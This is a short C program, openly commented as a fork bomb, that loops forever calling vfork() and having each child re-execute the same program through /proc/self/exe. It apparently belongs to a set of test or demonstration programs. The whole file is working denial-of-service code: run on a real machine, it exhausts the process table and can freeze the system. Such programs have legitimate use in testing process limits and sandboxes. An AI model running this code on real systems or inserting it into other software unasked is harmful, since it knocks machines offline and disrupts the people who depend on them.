/* A fork bomb by vfork(2), whose child may only exec or exit: it execs this program again. */
#include "programs.h"
int main(int argc, char **argv) {
    for (;;)
        if (vfork() == 0) { execv("/proc/self/exe", argv); _exit(1); }
}
